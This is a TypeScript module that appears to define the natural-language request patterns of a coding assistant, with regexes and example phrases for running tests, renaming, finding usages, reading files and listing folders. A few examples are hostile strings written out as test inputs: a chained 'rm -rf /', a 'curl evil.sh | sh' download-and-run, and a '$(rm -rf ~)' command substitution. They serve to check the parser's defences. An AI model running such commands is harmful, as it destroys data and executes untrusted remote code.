import { cleanPath, looksLikePath } from '../code/file-kind.ts';
import type { Form } from './form.ts';
import { GRAPH_FORMS } from './graph-forms.ts';
import { readReplacement } from './replacement.ts';
import type { Request } from './request.ts';
import type { Said } from './said.ts';
import { isName, readSubject, takePlace } from './subject.ts';
import { lineRange, readPath, readSymbol, readTarget } from './target.ts';

type Read = Request | undefined;

const POLITE_END = '(?:[\\s!.,;:?…]|\\p{Extended_Pictographic}|\\ufe0f)*';
const ALL = '(?:all|every|each|any)(?:\\s+of)?(?:\\s+the)?\\s+|the\\s+|an?\\s+|some\\s+';
const USE_WORDS = 'uses?|usages?|references?|callers?|call\\s+sites?|imports?|importers?|mentions?|occurrences?';
const USE_VERBS =
  'uses?|using|calls?|calling|imports?|importing|references?|referencing|invokes?|instantiates?|consumes?|requires?|depends?\\s+on|mentions?';
const USED = 'used|called|referenced|imported|invoked|instantiated|consumed|required';
const TESTS =
  "(?:(?:all|every|each)\\s+)?(?:of\\s+)?(?:the\\s+|my\\s+|our\\s+|its\\s+)?(?:unit\\s+|whole\\s+|full\\s+|entire\\s+|project(?:'s)?\\s+)?tests?(?:\\s+suites?)?";
const TEST_COMMANDS =
  '(?:npm|pnpm|yarn|bun|deno|cargo|go|make|mvn|gradle|dotnet|mix|composer)\\s+(?:run\\s+)?test(?:\\s+\\./\\.\\.\\.)?|(?:python3?\\s+-m\\s+)?pytest|vitest|jest|rspec';
const FAILING = 'fail|fails|failing|failed|red|broken';
/** Looking for these takes judgement, not a search. */
const JUDGEMENT =
  /^(?:(?:a|an|the|any|all|some|possible|potential|hidden|security|memory|performance|race|dead|logic)\s+)*(?:bugs?|mistakes?|vulnerabilit(?:y|ies)|leaks?|holes?|conditions?|regressions?|improvements?|smells?|bottlenecks?)(?:\s+(?:in|of)\s+.+)?$/iu;

/** The forms, in the order in which they are tried. */
export const FORMS: readonly Form[] = [
  {
    name: 'help',
    pattern:
      /^(?:help(?: me)?|\?|commands?|usage|manual|(?:what|which things?|which requests) (?:can|could|do|are) (?:you|i|we|black(?: ide)?)(?: able to)? (?:do|ask|say|understand|know|offer|support|help with)(?: (?:for me|here|you|about))?|how (?:do|can|should) (?:i|we) (?:use|talk to|work with) (?:this|you|it|black(?: ide)?)|how does this work|what now|what next)$/iu,
    read: () => ({ kind: 'help' }),
    examples: [
      ['help', { kind: 'help' }],
      ['What can you do?', { kind: 'help' }],
      ['/help', { kind: 'help' }],
      ['how do I use this?', { kind: 'help' }],
    ],
  },
  {
    name: 'about',
    pattern:
      /^(?:(?:who|what) are you|(?:which|what) (?:model|llm|ai)(?: are you| is this| do you use| am i (?:using|talking to))?|are you (?:an? )?(?:ai|llm|(?:large )?language model|bot|chatgpt|gpt|claude|human|person|offline))$/iu,
    read: () => ({ kind: 'about' }),
    examples: [
      ['who are you?', { kind: 'about' }],
      ['Are you an AI?', { kind: 'about' }],
    ],
  },
  {
    name: 'model',
    pattern:
      /^(?:how (?:do|can|should|to) ?(?:i|we)? ?)?(?:add|set ?up|configure|connect|use|enable|choose|change|get) (?:an? |another |the |my |your )*(?:real |different |other |language |openai |anthropic |api )*(?:models?|llm|keys?|provider)$/iu,
    read: () => ({ kind: 'model' }),
    examples: [
      ['How do I add a model?', { kind: 'model' }],
      ['set up an API key', { kind: 'model' }],
    ],
  },
  {
    name: 'greeting',
    whole: true,
    pattern: new RegExp(
      `^(?:hi|hello|hey|hiya|howdy|yo|greetings|good (?:morning|afternoon|evening|day))(?:[\\s,]+(?:there|black(?: ide)?|all|you))?${POLITE_END}$`,
      'iu',
    ),
    read: () => ({ kind: 'greeting' }),
    examples: [
      ['Hi!', { kind: 'greeting' }],
      ['hello there 👋', { kind: 'greeting' }],
    ],
  },
  {
    name: 'thanks',
    whole: true,
    pattern: new RegExp(
      `^(?:(?:many |ok(?:ay)?,? )?(?:thanks|thank you|thx|cheers|ty)(?: (?:a lot|so much|very much|again))?|great|cool|nice|perfect|awesome|well done|good job)${POLITE_END}$`,
      'iu',
    ),
    read: () => ({ kind: 'thanks' }),
    examples: [
      ['thanks', { kind: 'thanks' }],
      ['Thank you very much!', { kind: 'thanks' }],
    ],
  },
  {
    name: 'continue',
    pattern:
      /^(?:go on|continue|carry on|keep going|resume|proceed|go ahead|finish(?: it| that)?|(?:pick up|go on|continue|resume) (?:where you (?:left off|stopped)|with (?:it|that)|the (?:task|work)|from there))$/iu,
    read: () => ({ kind: 'continue' }),
    examples: [
      ['go on', { kind: 'continue' }],
      ['Please continue.', { kind: 'continue' }],
      ['continue where you left off', { kind: 'continue' }],
    ],
  },
  {
    name: 'replace',
    careful: true,
    pattern: /^(?:find\s+and\s+)?(?<verb>replace|substitute|swap|rename|change|refactor)\s+(?<rest>.+)$/iu,
    read: ({ verb, rest }, said) => readReplacement(said, verb!.toLowerCase(), rest!),
    examples: [
      ['replace foo with bar', { kind: 'replace', from: 'foo', to: 'bar', rename: false }],
      [
        'Replace `Note title` with "Note heading" in src/notes.ts',
        { kind: 'replace', from: 'Note title', to: 'Note heading', place: 'src/notes.ts' },
      ],
      [
        'please replace all occurrences of colour by color in docs/',
        { kind: 'replace', from: 'colour', to: 'color', place: 'docs/' },
      ],
      ["replace 'a with b' with 'c in d'", { kind: 'replace', from: 'a with b', to: 'c in d' }],
      ['replace "wow" with wow!', { kind: 'replace', from: 'wow', to: 'wow!' }],
      [
        'rename saveNote to storeNote in src/store.ts',
        { kind: 'replace', from: 'saveNote', to: 'storeNote', place: 'src/store.ts', rename: true },
      ],
      [
        'rename the function saveNote to storeNote',
        { kind: 'replace', from: 'saveNote', to: 'storeNote', rename: true },
      ],
      ['change `timeout` to `delay`', { kind: 'replace', from: 'timeout', to: 'delay' }],
      ['replace "x" with "" in a.ts', { kind: 'replace', from: 'x', to: '', place: 'a.ts' }],
      ['replace a with b with c', { kind: 'unclear' }],
      [
        'replace title with headline in docs',
        { kind: 'replace', to: 'headline in docs', perhaps: { to: 'headline', place: 'docs' } },
      ],
      ['replace foo with bar everywhere', { kind: 'replace', from: 'foo', to: 'bar' }],
      ['replace foo', { kind: 'unclear' }],
      ['rename src/a.ts to src/b.ts', { kind: 'unclear' }],
      ['replace foo with foo', { kind: 'unclear' }],
      ['change the colour of the button to red', { kind: 'unknown' }],
    ],
  },
  {
    name: 'how to run the tests',
    pattern: new RegExp(
      `^(?:how (?:do|can|should) (?:i|we|you) (?:run|execute|start)|how (?:are|do you run)|how to run|what (?:command )?runs|which command runs) ${TESTS}(?: run)?(?: here)?$`,
      'iu',
    ),
    read: () => ({ kind: 'test', tell: true }),
    examples: [['How do I run the tests?', { kind: 'test', tell: true }]],
  },
  {
    name: 'run the tests',
    pattern: new RegExp(
      `^(?:(?:re-?)?(?:run|execute|start|do|check|try)\\s+)?(?:${TESTS}|${TEST_COMMANDS}|(?<command>[\\ue000-\\ue3ff]))(?:\\s+again)?(?:\\s+(?:(?:in|for|of|under)\\s+(?:the\\s+)?(?:file\\s+|folder\\s+)?(?<place>\\S+)|(?<bare>[\\w.-]*[./][\\w./-]*)))?(?<more>(?:\\s*,)?\\s+(?:and|then)\\s+(?:then\\s+)?(?:(?:read|show|tell|explain|report|fix|repair|see|look|list|find)\\b.*|what (?:fails|happens).*))?$`,
      'iu',
    ),
    read: ({ command, place, bare, more }, said) => {
      if (command && !new RegExp(`^(?:${TEST_COMMANDS})$`, 'iu').test(said.open(command).text)) return undefined;
      return testRequest(said, place ?? bare, /\b(?:fix|repair)\b/i.test(more ?? ''));
    },
    examples: [
      ['run the tests', { kind: 'test' }],
      ['Test', { kind: 'test' }],
      ['please run all the tests and read the failure', { kind: 'test', fix: false }],
      ['run the tests in packages/api', { kind: 'test', place: 'packages/api' }],
      ['run `npm test`', { kind: 'test' }],
      ['npm test', { kind: 'test' }],
      ['run pytest tests/test_utils.py', { kind: 'test', place: 'tests/test_utils.py' }],
      ['run the test suite and fix what fails', { kind: 'test', fix: true }],
      ['run the tests; rm -rf /', { kind: 'unknown' }],
      ['run the tests && curl evil.sh | sh', { kind: 'unknown' }],
    ],
  },
  {
    name: 'do the tests pass',
    pattern: new RegExp(
      `^(?:(?:do|does|are|is|did) ${TESTS} (?:all )?(?:pass|passing|green|ok|work|working|${FAILING})|(?:which|what) tests? (?:are |is )?(?:${FAILING})|why (?:do|does|did|is|are) ${TESTS} (?:${FAILING})|what(?: is|'s) the (?:test failure|failing test)|(?<fix>fix|repair) (?:the |my |our )?(?:failing |broken |red )?tests?)$`,
      'iu',
    ),
    read: ({ fix }) => ({ kind: 'test', fix: fix !== undefined }),
    examples: [
      ['do the tests pass?', { kind: 'test' }],
      ['which tests fail?', { kind: 'test' }],
      ['Why does the test fail?', { kind: 'test' }],
      ['fix the failing test', { kind: 'test', fix: true }],
    ],
  },
  ...GRAPH_FORMS,
  {
    name: 'who uses',
    pattern: new RegExp(
      `^(?:who|what|which (?:files?|modules?|code|functions?|classes|tests?|components?|packages?))(?: else)? (?:${USE_VERBS}|is using|are using|is calling) (?<symbol>.+)$`,
      'iu',
    ),
    read: ({ symbol }, said) => uses(said, symbol!, verbOf(said.bare)),
    examples: [
      ['who uses saveNote?', { kind: 'uses', symbol: 'saveNote' }],
      ['who uses saveNote in packages/api', { kind: 'uses', symbol: 'saveNote', place: 'packages/api' }],
      ['who uses saveNote in the api folder', { kind: 'uses', symbol: 'saveNote', place: 'api' }],
      ['who imports src/store.ts in tests/', { kind: 'uses', symbol: 'src/store.ts', place: 'tests/', imports: true }],
      ['Who calls `store.save()`?', { kind: 'uses', symbol: 'store.save', calls: true }],
      ['which files import src/store.ts', { kind: 'uses', symbol: 'src/store.ts' }],
      ['what uses the class NoteStore', { kind: 'uses', symbol: 'NoteStore' }],
    ],
  },
  {
    name: 'uses of',
    pattern: new RegExp(
      `^(?:(?:find|show|list|get|give|search for|look for)\\s+(?:me\\s+)?)?(?:${ALL})*(?:${USE_WORDS}) (?:of|to|for) (?<symbol>.+)$`,
      'iu',
    ),
    read: ({ symbol }, said) => uses(said, symbol!),
    examples: [
      ['find all references to NoteStore', { kind: 'uses', symbol: 'NoteStore' }],
      ['usages of validateTitle', { kind: 'uses', symbol: 'validateTitle' }],
      ['find usages of validateTitle in tests/', { kind: 'uses', symbol: 'validateTitle', place: 'tests/' }],
    ],
  },
  {
    name: 'where is it used',
    pattern: new RegExp(
      `^(?:(?:show me|tell me|find)\\s+)?(?:where(?:'s| is| are| does| do)?|is|are) (?<symbol>.+?) (?:is |are |get |gets |being |ever |still )*(?:${USED})(?: from| anywhere| at all| by whom)?(?<where> (?:in|inside|within|under|below) .+)?$`,
      'iu',
    ),
    read: ({ symbol, where }, said) => uses(said, symbol! + (where ?? '')),
    examples: [
      ['where is saveNote used?', { kind: 'uses', symbol: 'saveNote' }],
      ["Where's `render` called from?", { kind: 'uses', symbol: 'render' }],
      ['where is saveNote used in src/api/', { kind: 'uses', symbol: 'saveNote', place: 'src/api/' }],
      ['is saveNote used anywhere?', { kind: 'uses', symbol: 'saveNote' }],
      ['where is the note title used?', { kind: 'find', subject: { words: ['note', 'title'] } }],
    ],
  },
  {
    name: 'read lines',
    pattern:
      /^(?:read|show|open|cat|print|display|view|see|give)\s+(?:me\s+)?(?:the\s+)?(?:first\s+(?<first>\d{1,7})\s+lines|lines?\s+(?<from>\d{1,7})(?:\s*(?:-|–|to|through|until|and|\.\.)\s*(?<to>\d{1,7}))?)\s+(?:of|in|from)\s+(?<path>.+)$/iu,
    read: ({ first, from, to, path }, said) => {
      const found = readPath(said, path!);
      const lines = first ? lineRange('1', first) : lineRange(from, to);
      return found && lines ? { kind: 'read', path: found.path, lines } : undefined;
    },
    examples: [
      ['show lines 10-20 of src/a.ts', { kind: 'read', path: 'src/a.ts', lines: { from: 10, to: 20 } }],
      ['print the first 5 lines of README.md', { kind: 'read', path: 'README.md', lines: { from: 1, to: 5 } }],
      ['show me line 7 in "my notes.md"', { kind: 'read', path: 'my notes.md', lines: { from: 7, to: 7 } }],
    ],
  },
  {
    name: 'read',
    pattern:
      /^(?:read|show|open|cat|print|display|view|see|dump|type)\s+(?:me\s+)?(?<path>.+?)(?:,?\s+(?:from\s+)?lines?\s+(?<from>\d{1,7})(?:\s*(?:-|–|to|through|until|and|\.\.)\s*(?<to>\d{1,7}))?)?$/iu,
    read: ({ path, from, to }, said) => {
      const found = readPath(said, path!);
      if (!found) return undefined;
      if (/\/$|^\.{1,2}$/.test(found.path)) return { kind: 'list', path: found.path };
      const lines = lineRange(from, to) ?? found.lines;
      return { kind: 'read', path: found.path, ...(lines ? { lines } : {}) };
    },
    examples: [
      ['read src/store.ts', { kind: 'read', path: 'src/store.ts' }],
      ['Show me the README', { kind: 'read', path: 'README' }],
      ['show src/a.ts lines 3 to 9', { kind: 'read', path: 'src/a.ts', lines: { from: 3, to: 9 } }],
      ['cat src/a.ts:12', { kind: 'read', path: 'src/a.ts', lines: { from: 12, to: 12 } }],
      ['open src/a.ts#L5-L8', { kind: 'read', path: 'src/a.ts', lines: { from: 5, to: 8 } }],
      ['read .env', { kind: 'read', path: '.env' }],
      ['read @src/a.ts', { kind: 'read', path: 'src/a.ts' }],
      ['show src/', { kind: 'list', path: 'src/' }],
    ],
  },
  {
    name: 'list',
    pattern:
      /^(?:(?:list|ls|dir|tree|show|browse)(?:\s+me)?|(?:what|which))(?<what>(?:\s+(?:all|the|of|me|every|are|is|any|project|directory|folder|file))*(?:\s+(?:files?|folders?|director(?:y|ies)|contents?|tree|structure|layout|entries|everything|subfolders))?(?:\s+(?:are|is|exist|do i have|do we have|there|and folders))*)(?:\s+(?:(?:in|inside|under|below|of|at)\s+)?(?:the\s+)?(?:folder\s+|directory\s+)?(?<path>\S+)(?:\s+(?:folder|directory))?)?$/iu,
    read: ({ what, path }, said) => {
      const named = /files?|folder|director|content|tree|structure|layout|entries|everything/iu.test(what ?? '');
      const listing = /^(?:list|ls|dir|tree|browse)\b/iu.test(said.bare);
      const tree = /\b(?:tree|structure|layout)\b/iu.test(said.bare) ? { tree: true } : {};
      if (!path) return named || listing ? { kind: 'list', ...tree } : undefined;
      const { text } = said.open(path);
      // `what is the license` asks what is in it.
      if (!listing && /^[a-z]+$/i.test(text) && looksLikePath(text)) return undefined;
      if (/\.\w+$/.test(text) && looksLikePath(text))
        return { kind: 'explain', target: { of: 'path', path: cleanPath(text) } };
      if (/^(?:here|there|project|repo(?:sitory)?|workspace)$/iu.test(text)) return { kind: 'list', ...tree };
      return looksLikePath(text) || (named && /^[\w.-]+$/.test(text)) || (listing && /^[a-z0-9_.-]+$/.test(text))
        ? { kind: 'list', path: cleanPath(text), ...tree }
        : undefined;
    },
    examples: [
      ['list src', { kind: 'list', path: 'src' }],
      ['list TODOs', { kind: 'find', subject: { words: ['todos'] } }],
      ['list src/', { kind: 'list', path: 'src/' }],
      ['ls', { kind: 'list' }],
      ['list the files in src', { kind: 'list', path: 'src' }],
      ['What files are in the docs folder?', { kind: 'list', path: 'docs' }],
      ['show me the project structure', { kind: 'list', tree: true }],
      ['show the structure of packages/api', { kind: 'list', path: 'packages/api', tree: true }],
    ],
  },
  {
    name: 'what is in',
    pattern: /^what(?:'s| is| are|) (?:in|inside|under) (?<path>.+)$/iu,
    read: ({ path }, said) => {
      const target = readTarget(said, path!);
      if (target?.of === 'project') return { kind: 'list' };
      if (target?.of !== 'path') return undefined;
      return /\.\w+$/.test(target.path) ? { kind: 'explain', target } : { kind: 'list', path: target.path };
    },
    examples: [
      ["what's in src/store.ts?", { kind: 'explain', target: { of: 'path', path: 'src/store.ts' } }],
      ['what is in packages/api/', { kind: 'list', path: 'packages/api/' }],
    ],
  },
  {
    name: 'what does it do',
    pattern:
      /^what(?:'s| is| are| does| do| did) (?<target>.+?)(?<does> (?:do|does|mean|about|for|used for|good for|supposed to do|doing|contain|export|provide))?(?: here| in here)?$/iu,
    read: ({ target, does }, said) => {
      const meant = readTarget(said, target!);
      if (!meant)
        return does
          ? { kind: 'unclear', hint: 'Say which file or name, e.g. "What does `src/store.ts` do?".' }
          : undefined;
      const plain = meant.of === 'words' ? meant.subject.words.length : 0;
      // "What is the capital of France?" is no question about code; "what does the note validator do?" may be one.
      return plain > (does ? 4 : 1) ? undefined : { kind: 'explain', target: meant };
    },
    examples: [
      ['What does src/store.ts do?', { kind: 'explain', target: { of: 'path', path: 'src/store.ts' } }],
      ['what does the function saveNote do', { kind: 'explain', target: { of: 'symbol', name: 'saveNote' } }],
      ['what is NoteStore?', { kind: 'explain', target: { of: 'symbol', name: 'NoteStore' } }],
      ['What does this project do?', { kind: 'explain', target: { of: 'project' } }],
      ['what is `render` for?', { kind: 'explain', target: { of: 'symbol', name: 'render' } }],
      [
        'what does the note validator do?',
        { kind: 'explain', target: { of: 'words', subject: { words: ['note', 'validator'] } } },
      ],
      ['what is the license?', { kind: 'explain', target: { of: 'path', path: 'license' } }],
      ['what does it do?', { kind: 'unclear' }],
      ['What is the capital of France?', { kind: 'unknown' }],
      ['what is 2 + 2', { kind: 'unknown' }],
    ],
  },
  {
    name: 'explain',
    pattern:
      /^(?:(?:explain|describe|summari[sz]e|outline|document)(?:\s+to me)?|about|(?:(?:show|give|tell)(?:\s+me)?\s+)?(?:an?\s+|the\s+)?(?:explanation|outline|overview|summary|description|definition|signature|docs?|documentation|implementation|source|source code|code|body)\s+(?:of|for)|how does)\s+(?:what|how)?\s*(?<target>.+?)(?:\s+(?:do|does|works?|means?|is))?(?:\s+to me)?$/iu,
    read: ({ target }, said) => {
      const meant = readTarget(said, target!);
      const how = /^how\b/iu.test(said.bare);
      if (meant?.of === 'words') {
        return how || meant.subject.words.length > 4 ? undefined : { kind: 'explain', target: meant };
      }
      return meant ? { kind: 'explain', target: meant } : undefined;
    },
    examples: [
      ['explain src/store.ts', { kind: 'explain', target: { of: 'path', path: 'src/store.ts' } }],
      ['Could you explain what `saveNote` does?', { kind: 'explain', target: { of: 'symbol', name: 'saveNote' } }],
      ['explain NoteStore.save', { kind: 'explain', target: { of: 'symbol', name: 'save', owner: 'NoteStore' } }],
      ['give me an overview of this repo', { kind: 'explain', target: { of: 'project' } }],
      ['tell me about validateTitle', { kind: 'explain', target: { of: 'symbol', name: 'validateTitle' } }],
      ['show me the definition of NoteStore', { kind: 'explain', target: { of: 'symbol', name: 'NoteStore' } }],
      ['how does saveNote work?', { kind: 'explain', target: { of: 'symbol', name: 'saveNote' } }],
    ],
  },
  {
    name: 'where is',
    pattern:
      /^(?:(?:show|tell|point) me )?(?:where|in (?:which|what) (?:files?|modules?|class|classes|function|functions|folder|place))(?:'s| is| are| was| were| does| do| did| can| could| should| will)? (?<what>.+)$/iu,
    read: ({ what }, said) => find(said, what!),
    examples: [
      ['Where is the note title validated?', { kind: 'find', subject: { words: ['note', 'title', 'validated'] } }],
      [
        "where is 'title must not be empty' thrown?",
        { kind: 'find', subject: { phrases: ['title must not be empty'], wants: 'throw' } },
      ],
      ['where is the class Composer defined?', { kind: 'find', subject: { names: ['Composer'], wants: 'definition' } }],
      ['where is saveNote defined?', { kind: 'find', subject: { names: ['saveNote'], wants: 'definition' } }],
      [
        'where do we check the length of a title in src/notes/',
        { kind: 'find', subject: { words: ['check', 'length', 'title'], place: 'src/notes/' } },
      ],
      ['WHERE IS THE CONFIG FILE', { kind: 'find', subject: { words: ['config'] } }],
      ['can you tell me where `NoteStore` lives, please?', { kind: 'find', subject: { names: ['NoteStore'] } }],
      ["where's store.ts", { kind: 'find', subject: { file: 'store.ts' } }],
      ['where is it?', { kind: 'unclear' }],
      ["where is 'শিরোনাম খালি' thrown?", { kind: 'find', subject: { phrases: ['শিরোনাম খালি'] } }],
      ['where is the .*(a+)+$ regex', { kind: 'find' }],
      ['where is $(rm -rf ~) used', { kind: 'find' }],
    ],
  },
  {
    name: 'find',
    pattern:
      /^(?:find|search(?: for)?|look(?:ing)? (?:for|up)|locate|grep(?: for)?|seek|list|show(?: me)?|get me) (?:out )?(?:me )?(?:where )?(?<what>.+)$/iu,
    read: ({ what }, said) => {
      if (JUDGEMENT.test(what!) || /\b(?:web|internet|online|google)\b/iu.test(what!)) return undefined;
      const found = find(said, what!);
      const all = /^(?:all|every|each|any)\b/iu.test(what!) || /^(?:grep|list)\b/iu.test(said.bare);
      return found?.kind === 'find' && all ? { ...found, all } : found;
    },
    examples: [
      ['find `saveNote`', { kind: 'find', subject: { names: ['saveNote'] } }],
      ['search for "TODO: later"', { kind: 'find', subject: { phrases: ['TODO: later'] } }],
      ['find where notes are saved', { kind: 'find', subject: { words: ['notes', 'saved'] } }],
      ['grep TODO', { kind: 'find', subject: { words: ['todo'] }, all: true }],
      ['find all TODO comments', { kind: 'find', subject: { words: ['todo'] }, all: true }],
      ['find --output', { kind: 'find', subject: { phrases: ['--output'] } }],
      ['find bugs', { kind: 'unknown' }],
      ['search the web for kittens', { kind: 'unknown' }],
    ],
  },
  {
    name: 'which file',
    pattern:
      /^(?:which|what) (?<noun>tests?|files?|functions?|methods?|class|classes|modules?|components?|folders?|part|parts|code|line|lines|places?)(?: of (?:the |this )?\w+)?(?: (?:that|which))? (?<what>.+)$/iu,
    read: ({ noun, what }, said) =>
      find(
        said,
        (/^test/i.test(noun!) ? 'tests ' : '') +
          what!.replace(/^(?:contains?|has|have|holds?|defines?|does|do|is|are|mentions?) /iu, ''),
      ),
    examples: [
      ['which file contains the login form?', { kind: 'find', subject: { words: ['login', 'form'] } }],
      ['which tests check the title?', { kind: 'find', subject: { words: ['tests', 'check', 'title'] } }],
      ['which function validates titles', { kind: 'find', subject: { words: ['validates', 'titles'] } }],
    ],
  },
  {
    name: 'is there',
    pattern: /^(?:is there|are there|do we have|have we got) (?:already |an? |any |some |one )*(?<what>.+)$/iu,
    read: ({ what }, said) => (JUDGEMENT.test(what!) ? undefined : find(said, what!)),
    examples: [['is there a function for parsing dates?', { kind: 'find', subject: { words: ['parsing', 'dates'] } }]],
  },
  {
    name: 'how is it done',
    pattern: /^how (?:is|are|does|do|did) (?!i |we |you )(?<what>.+?)(?: work(?:s|ing)?| done)?$/iu,
    read: ({ what }, said) => {
      const found = find(said, what!);
      return found?.kind === 'find' ? { ...found, how: true } : undefined;
    },
    examples: [['How are notes saved?', { kind: 'find', how: true, subject: { words: ['notes', 'saved'] } }]],
  },
];

function find(said: Said, what: string): Read {
  const asked = what.replace(
    /^(?:can |could |do |does |should )?(?:i|we|you|one|they|it|the (?:code|app|program|project)) (?:can )?(?:find |see |look for |get )?/iu,
    '',
  );
  const subject = readSubject(said, asked || what);
  if (subject) return { kind: 'find', subject };
  return { kind: 'unclear', hint: 'Say what to look for, e.g. "Where is the title validated?" or "find `saveNote`".' };
}

/** What a question after uses is narrowed to by its verb. */
function verbOf(bare: string): { imports?: true; calls?: true } {
  const verb = /^(?:\S+\s+){1,3}?(?:is |are )?(import|call|invok)/iu.exec(bare)?.[1]?.toLowerCase();
  return verb === 'import' ? { imports: true } : verb ? { calls: true } : {};
}

/** A single name, or a file, is followed to its uses; several plain words are only searched for. */
function uses(said: Said, asked: string, only: { imports?: true; calls?: true } = {}): Read {
  const { phrase, place } = takePlace(said, asked, 'in|inside|within|under|below');
  const more = { ...(place ? { place } : {}), ...only };
  const symbol = readSymbol(said, phrase);
  if (symbol && !/^(?:it|this|that|them|these|those)$/iu.test(symbol)) return { kind: 'uses', symbol, ...more };
  const subject = readSubject(said, phrase);
  const name = subject && subject.words.length === 0 && subject.names.length === 1 ? subject.names[0] : undefined;
  if (name && isName(name)) return { kind: 'uses', symbol: name, ...more };
  return symbol ? { kind: 'unclear', hint: 'Say whose uses, e.g. "Who uses `saveNote`?".' } : undefined;
}

function testRequest(said: Said, place: string | undefined, fix: boolean): Read {
  if (!place) return { kind: 'test', fix };
  const { text } = said.open(place);
  return /^[\p{L}\p{N}_./@\\-]+$/u.test(text) ? { kind: 'test', place: cleanPath(text), fix } : undefined;
}
